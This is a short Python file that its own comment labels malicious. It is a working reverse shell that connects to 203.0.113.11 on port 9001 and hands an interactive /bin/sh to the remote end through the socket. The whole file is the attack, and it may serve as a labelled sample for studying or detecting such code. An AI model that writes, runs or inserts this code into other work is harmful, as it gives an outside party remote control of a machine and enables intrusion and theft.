# Malicious: reverse shell: a TCP socket becomes /bin/sh's stdin, stdout and stderr via subprocess.
import socket
import subprocess

sock = socket.create_connection(("203.0.113.11", 9001))
subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
